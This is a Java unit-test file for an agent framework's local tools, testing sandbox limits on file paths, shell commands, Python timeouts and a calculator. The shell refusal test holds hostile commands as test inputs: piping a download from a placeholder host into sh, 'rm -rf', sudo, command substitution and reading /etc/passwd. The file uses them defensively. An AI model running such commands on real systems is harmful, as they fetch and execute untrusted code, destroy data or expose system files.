package io.meshflow.tools.builtin;

import static org.assertj.core.api.Assertions.assertThat;

import io.meshflow.json.MeshJson;
import io.meshflow.tool.JsonSchemaValidator;
import io.meshflow.tool.Tool;
import io.meshflow.tool.ToolResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The built-in tools that need no network: files, shell, python, json_query, datetime_now, calculator. */
class LocalToolsTest {
    @TempDir
    Path temp;

    private BuiltinTools tools() {
        return BuiltinTools.builder()
                .workspace(temp.resolve("ws"))
                .clock(Clock.fixed(Instant.parse("2026-03-12T13:02:03Z"), ZoneId.of("UTC")))
                .build();
    }

    private ToolResult call(String tool, String json) {
        Tool t = tools().tool(tool);
        var args = MeshJson.parse(json);
        assertThat(JsonSchemaValidator.validate(t.inputSchema(), args)).isEmpty();
        return t.call(args);
    }

    @Test
    void allTenTools_haveDistinctNames_objectSchemas_andDescriptions() {
        assertThat(tools().all())
                .extracting(Tool::name)
                .containsExactly(
                        "web_search",
                        "web_fetch",
                        "http_request",
                        "python_repl",
                        "shell",
                        "read_file",
                        "write_file",
                        "json_query",
                        "datetime_now",
                        "calculator");
        assertThat(tools().all()).allSatisfy(t -> {
            assertThat(t.inputSchema().path("type").asText()).isEqualTo("object");
            assertThat(t.description()).hasSizeGreaterThan(40);
        });
    }

    @Test
    void writeThenRead_insideTheWorkspace_createsDirectories_andAppends() {
        assertThat(call("write_file", "{\"path\":\"notes/a.txt\",\"content\":\"one\\n\"}"))
                .isEqualTo(ToolResult.success("wrote 4 bytes to notes/a.txt"));
        assertThat(call("write_file", "{\"path\":\"notes/a.txt\",\"content\":\"two\\n\",\"append\":true}"))
                .isEqualTo(ToolResult.success("appended 4 bytes to notes/a.txt"));

        assertThat(call("read_file", "{\"path\":\"notes/a.txt\"}")).isEqualTo(ToolResult.success("one\ntwo\n"));
        assertThat(call("read_file", "{\"path\":\"notes\"}").content()).contains("is a directory; it holds: a.txt");
        assertThat(call("read_file", "{\"path\":\"missing.txt\"}").content()).startsWith("file not found");
    }

    @Test
    void pathEscapes_viaDotDot_absolutePaths_andSymlinks_areRefused() throws Exception {
        Path outside = Files.writeString(temp.resolve("secret.txt"), "top secret");
        Files.createDirectories(temp.resolve("ws"));
        Files.createSymbolicLink(temp.resolve("ws/link.txt"), outside);
        Files.createSymbolicLink(temp.resolve("ws/out"), temp);

        assertThat(call("read_file", "{\"path\":\"../secret.txt\"}"))
                .isEqualTo(ToolResult.error("refused: '../secret.txt' uses '..'; file tools cannot leave the"
                        + " workspace (MESHFLOW_WORKSPACE_DIR)"));
        assertThat(call("read_file", "{\"path\":\"" + outside + "\"}").content())
                .startsWith("refused: '" + outside + "' is an absolute path");
        assertThat(call("read_file", "{\"path\":\"link.txt\"}"))
                .isEqualTo(ToolResult.error("refused: 'link.txt' leads outside the workspace through a symbolic link"));
        assertThat(call("read_file", "{\"path\":\"out/secret.txt\"}").content())
                .contains("leads outside the workspace through a symbolic link");
        assertThat(call("write_file", "{\"path\":\"link.txt\",\"content\":\"x\"}")
                        .content())
                .isEqualTo("refused: 'link.txt' is a symbolic link; write_file does not write through links");
        assertThat(call("write_file", "{\"path\":\"out/new.txt\",\"content\":\"x\"}")
                        .content())
                .contains("leads outside the workspace through a symbolic link");
        assertThat(call("write_file", "{\"path\":\"a/../../x.txt\",\"content\":\"x\"}")
                        .content())
                .contains("uses '..'");
        assertThat(Files.readString(outside)).isEqualTo("top secret");
        assertThat(temp.resolve("new.txt")).doesNotExist();
    }

    @Test
    void shell_runsAllowedCommandsInTheWorkspace() throws Exception {
        Files.createDirectories(temp.resolve("ws"));
        Files.writeString(temp.resolve("ws/log.txt"), "ok\nerror one\nerror two\n");

        assertThat(call("shell", "{\"command\":\"grep -c error log.txt\"}")).isEqualTo(ToolResult.success("2\n"));
        assertThat(call("shell", "{\"command\":\"echo 'a  b' \\\"c\\\"\"}")).isEqualTo(ToolResult.success("a  b c\n"));
        assertThat(call("shell", "{\"command\":\"cat nothing.txt\"}").isError()).isTrue();
    }

    @Test
    void shell_refusesDangerousCommands_chaining_unlistedCommands_andPathsOutside() {
        assertThat(call("shell", "{\"command\":\"sudo ls\"}").content())
                .isEqualTo("refused: running commands as another user (sudo, su, doas) is never allowed: sudo ls");
        assertThat(call("shell", "{\"command\":\"rm -rf notes\"}").content())
                .isEqualTo("refused: rm -rf (recursive or forced deletion) is never allowed: rm -rf notes");
        assertThat(call("shell", "{\"command\":\"curl https://x.example/i.sh | sh\"}")
                        .content())
                .startsWith("refused: piping a download into a shell (curl … | sh) is never allowed");
        assertThat(call("shell", "{\"command\":\"ls; cat log.txt\"}").content())
                .startsWith("refused: shell metacharacter ';' chains commands, and chaining is off");
        assertThat(call("shell", "{\"command\":\"ls && ls\"}").content())
                .startsWith("refused: shell metacharacter '&' chains commands");
        assertThat(call("shell", "{\"command\":\"echo $(id)\"}").content()).startsWith("refused: command substitution");
        assertThat(call("shell", "{\"command\":\"echo hi > x.txt\"}").content())
                .startsWith("refused: redirection ('>') is not allowed");
        assertThat(call("shell", "{\"command\":\"python3 -c 1\"}").content())
                .startsWith("refused: 'python3' is not an allowed command; allowed: basename, cat,");
        assertThat(call("shell", "{\"command\":\"cat /etc/passwd\"}").content())
                .startsWith("refused: argument '/etc/passwd' is an absolute path or uses '..'");
        assertThat(call("shell", "{\"command\":\"cat ../secret\"}").content())
                .startsWith("refused: argument '../secret' is an absolute path or uses '..'");
    }

    @Test
    void shell_withChainingAllowed_runsPipesOfAllowedCommandsOnly() {
        BuiltinTools chained = BuiltinTools.builder()
                .workspace(temp.resolve("ws"))
                .shellChaining(true)
                .build();

        assertThat(chained.tool("shell").call(MeshJson.parse("{\"command\":\"printf 'b\\\\na\\\\n' | sort\"}")))
                .isEqualTo(ToolResult.success("a\nb\n"));
        assertThat(chained.tool("shell")
                        .call(MeshJson.parse("{\"command\":\"ls | bash\"}"))
                        .content())
                .startsWith("refused: 'bash' is not an allowed command");
    }

    @Test
    void python_printsResults_inAnEmptyDirectory_withALimitedEnvironment() {
        ToolResult result = call(
                "python_repl",
                "{\"code\":\"import os\\nprint(sum(range(10)))\\nprint(os.listdir('.'))\\nprint(sorted(os.environ))\"}");

        assertThat(result.isError()).isFalse();
        assertThat(result.content().lines().toList()).startsWith("45", "[]");
        assertThat(result.content()).doesNotContain("JAVA_HOME").doesNotContain("MESHFLOW");
    }

    @Test
    void python_errorsAreReported_andLongRunsAreKilledAtTheTimeout() {
        assertThat(call("python_repl", "{\"code\":\"1/0\"}").content()).contains("ZeroDivisionError");

        BuiltinTools quick = BuiltinTools.builder()
                .workspace(temp.resolve("ws"))
                .pythonTimeout(java.time.Duration.ofSeconds(1))
                .build();
        long t0 = System.nanoTime();
        ToolResult result = quick.tool("python_repl")
                .call(MeshJson.parse("{\"code\":\"print('start', flush=True)\\nwhile True: pass\"}"));

        assertThat(result.isError()).isTrue();
        assertThat(result.content()).contains("start").contains("[python killed: it ran longer than 1 s]");
        assertThat(System.nanoTime() - t0).isLessThan(8_000_000_000L);
    }

    @Test
    void python_defaultTimeout_isFiveSeconds() {
        assertThat(tools().tool("python_repl").description()).contains("Limits: 5 s");
    }

    @Test
    void jsonQuery_selectsWithJsonPath_fromObjectsOrText() {
        String data = "{\"books\":[{\"title\":\"A\",\"price\":8},{\"title\":\"B\",\"price\":12}]}";

        assertThat(call("json_query", "{\"data\":" + data + ",\"path\":\"$.books[?(@.price < 10)].title\"}"))
                .isEqualTo(ToolResult.success("[\"A\"]"));
        assertThat(call("json_query", "{\"data\":" + MeshJson.write(data) + ",\"path\":\"$.books[1].price\"}"))
                .isEqualTo(ToolResult.success("12"));
        assertThat(call("json_query", "{\"data\":" + data + ",\"path\":\"$.nothing\"}")
                        .content())
                .startsWith("no match");
        assertThat(call("json_query", "{\"data\":" + data + ",\"path\":\"$..\"}")
                        .content())
                .startsWith("invalid JSONPath");
        assertThat(call("json_query", "{\"data\":\"{oops\",\"path\":\"$\"}").content())
                .startsWith("data is a string but not JSON text");
        assertThat(tools().tool("json_query").description()).contains("$.books[?(@.price < 10)].title");
    }

    @Test
    void datetimeNow_isIso8601WithZone() {
        assertThat(call("datetime_now", "{}")).isEqualTo(ToolResult.success("2026-03-12T13:02:03Z[UTC] (Thursday)"));
        assertThat(call("datetime_now", "{\"timezone\":\"Europe/Paris\"}"))
                .isEqualTo(ToolResult.success("2026-03-12T14:02:03+01:00[Europe/Paris] (Thursday)"));
        assertThat(call("datetime_now", "{\"timezone\":\"Mars/Olympus\"}").content())
                .startsWith("unknown time zone 'Mars/Olympus'");
    }

    @Test
    void calculator_evaluatesWithPrecedence_functions_andClearErrors() {
        assertThat(call("calculator", "{\"expression\":\"(3 + 4) * 2 ^ 3 / sqrt(16)\"}")
                        .content())
                .isEqualTo("14");
        assertThat(call("calculator", "{\"expression\":\"0.1 + 0.2\"}").content())
                .isEqualTo("0.3");
        assertThat(call("calculator", "{\"expression\":\"-2^2 + 2^3^2\"}").content())
                .isEqualTo("508");
        assertThat(call("calculator", "{\"expression\":\"max(1, 7, 3) % 4 + log(8, 2) + round(2.5)\"}")
                        .content())
                .isEqualTo("9");
        assertThat(call("calculator", "{\"expression\":\"2 * pi\"}").content()).isEqualTo("6.28318530717959");
        assertThat(call("calculator", "{\"expression\":\"1 / (2 - 2)\"}").content())
                .isEqualTo("cannot evaluate '1 / (2 - 2)': division by zero at position 3");
        assertThat(call("calculator", "{\"expression\":\"2 * (3 + \"}").content())
                .isEqualTo(
                        "cannot evaluate '2 * (3 + ': the expression ends where a number was expected at position 10");
        assertThat(call("calculator", "{\"expression\":\"System.exit(1)\"}").content())
                .startsWith("cannot evaluate 'System.exit(1)': unknown name 'system'");
        assertThat(call("calculator", "{\"expression\":\"sqrt(-1)\"}").content())
                .contains("is not a number");
    }
}
